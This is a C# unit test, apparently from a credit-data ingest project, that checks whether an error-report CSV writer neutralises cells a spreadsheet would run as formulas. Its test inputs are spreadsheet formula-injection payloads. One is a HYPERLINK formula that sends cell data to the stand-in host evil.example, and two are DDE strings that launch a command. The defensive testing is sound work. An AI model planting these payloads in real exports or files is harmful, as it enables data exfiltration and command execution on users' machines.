using System.Text;
using CreditProof.Ingest;
using Microsoft.VisualBasic.FileIO;

namespace CreditProof.Tests.Ingest;

public sealed class ErrorReportTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void Error_report_csv_neutralises_cells_that_a_spreadsheet_would_run_as_a_formula(string value)
    {
        var folder = Directory.CreateTempSubdirectory("cp-errors-");
        var file = Path.Combine(folder.FullName, value.StartsWith('=') ? "=evil.csv" : "penalty.csv");
        File.WriteAllText(file, "");
        string csvPath;
        using (var report = ErrorReport.Beside(file, Guid.NewGuid()))
        {
            report.Write(new RowError(3, value, value, "date", value, value), outOfScope: false);
            csvPath = report.CsvPath;
        }

        // An independent reader: Visual Basic's RFC 4180 parser.
        using var parser = new TextFieldParser(csvPath, Encoding.UTF8) { TextFieldType = FieldType.Delimited, HasFieldsEnclosedInQuotes = true, TrimWhiteSpace = false };
        parser.SetDelimiters(",");
        var header = parser.ReadFields()!;
        var row = parser.ReadFields()!;
        Assert.Equal(header.Length, row.Length);
        var cells = header.Zip(row).ToDictionary(p => p.First, p => p.Second);
        foreach (var column in new[] { "column", "value", "message_zh", "message_en" })
            Assert.Equal("'" + value, cells[column]);
        Assert.All(row, cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), $"unsafe cell {cell}"));
        var raw = File.ReadAllText(csvPath);
        Assert.Contains("\"'" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"", raw, StringComparison.Ordinal);
        folder.Delete(recursive: true);
    }
}
